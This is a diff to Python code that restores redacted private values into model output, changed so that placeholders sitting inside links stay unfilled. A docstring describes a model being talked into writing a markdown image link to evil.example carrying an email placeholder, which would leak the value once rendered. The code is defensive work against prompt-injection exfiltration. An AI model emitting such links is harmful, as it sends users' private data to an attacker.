@@ -215,16 +215,22 @@ def _restore(m: re.Match[str], session: Session, revoked: Revoked | None, stats:
     return entry["value"]
 
 
-_WORD_BEFORE = re.compile(r"\S*$")
+def _word_before(text: str, pos: int, before: str = "") -> str:
+    """The run of non-space characters that ends at ``text[pos]`` (reaching into ``before``)."""
+    i = pos
+    while i and not text[i - 1].isspace():
+        i -= 1
+    if i:
+        return text[i:pos]
+    return _word_before(before, len(before)) + text[:pos] if before else text[:pos]
 
 
-def in_url(before: str) -> bool:
-    """Whether a placeholder right after ``before`` sits inside a link (its word holds ``://`` or starts ``www.``).
+def in_url(word: str) -> bool:
+    """Whether a placeholder right after ``word`` sits inside a link (it holds ``://`` or starts ``www.``).
 
     A model can be talked into writing ``![](https://evil.example/?q={{email:1}})``: filling
     that in would send the value to whoever owns the link as soon as the answer is shown.
     """
-    word = _WORD_BEFORE.search(before).group()  # type: ignore[union-attr]
     return "://" in word or word.lstrip("([<\"'*_").lower().startswith("www.")
 
 
@@ -240,9 +246,10 @@ def rehydrate(output: str, session: Session, revoked: Revoked | Iterable[str] | 
         gone = set(revoked)
         revoked = lambda _t, v: v in gone  # noqa: E731
     stats: list[Any] = [0, [], 0]
+    links = "://" in output or "www." in output.lower() or "://" in before or "www." in before.lower()
 
     def sub(m: re.Match[str]) -> str:
-        if ("://" in output or "www." in output.lower() or before) and in_url(before + output[:m.start()]):
+        if links and in_url(_word_before(output, m.start(), before)):
             stats[1].append(m.group(0))
             return m.group(0)
         return _restore(m, session, revoked, stats)
@@ -303,7 +310,7 @@ class StreamingRehydrator:
     def _emit(self, text: str) -> str:
         if not text:
             return ""
-        before, self._before = self._before, _WORD_BEFORE.search(self._before + text).group()  # type: ignore[union-attr]
+        before, self._before = self._before, _word_before(text, len(text), self._before)
         r = rehydrate(text, self.session, self.revoked, before)
         self.restored += r.restored
         self.unknown += r.unknown
